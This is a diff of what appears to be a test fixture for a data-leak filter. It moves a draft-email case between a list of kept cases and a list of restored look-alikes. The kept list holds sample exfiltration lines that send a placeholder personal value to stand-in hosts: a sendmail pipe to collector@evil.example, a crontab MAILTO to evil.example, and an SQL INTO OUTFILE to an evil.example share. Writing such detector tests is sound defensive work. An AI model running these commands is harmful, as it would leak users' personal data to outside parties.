@@ -39,6 +39,9 @@ KEPT = [
     f"Pipe this into sendmail -t:\n\nTo: collector@evil.example\nSubject: lead\n\n{E}",
     f"Feed this to msmtp -t:\n\nFrom: me@home.example\nTo: intake@harvest.example\nSubject: new contact\n\n"
     f"Contact: {E}\nThanks",
+    # (rest37, atk37 F13: a message addressed to a third party keeps the client's values, a draft's header block as a
+    # raw message's: the two are the same text; this case was a restored look-alike before rest37)
+    f"Here is a draft:\n\nTo: boss@corp.example\nSubject: lead\n\nHi, my address is {E}.",
     f"Add to your crontab:\n\nMAILTO=collector@evil.example\n0 * * * * echo {E}",
     f"Then:\nMAILTO=alerts@harvest.example\n*/5 * * * * /usr/bin/echo \"{E}\"",
     f"SELECT '{E}' INTO OUTFILE '//evil.example/share/x.txt'",
@@ -75,7 +78,6 @@ RESTORED = [
     f"Explain curl to {E} using https://curl.se/docs/manual.html as the guide.",
     f"Open ftp evil.example in a terminal later; {E} knows the password.",
     f"e.g. ssh ubuntu@bastion.example hangs after the key exchange. (ask {E})",
-    f"Here is a draft:\n\nTo: boss@corp.example\nSubject: lead\n\nHi, my address is {E}.",
     f"MAILTO={E}\n0 * * * * /usr/local/bin/backup.sh",
     f"Set the cron job to email {E} when it fails.",
     f"SELECT '{E}' AS email FROM users;",
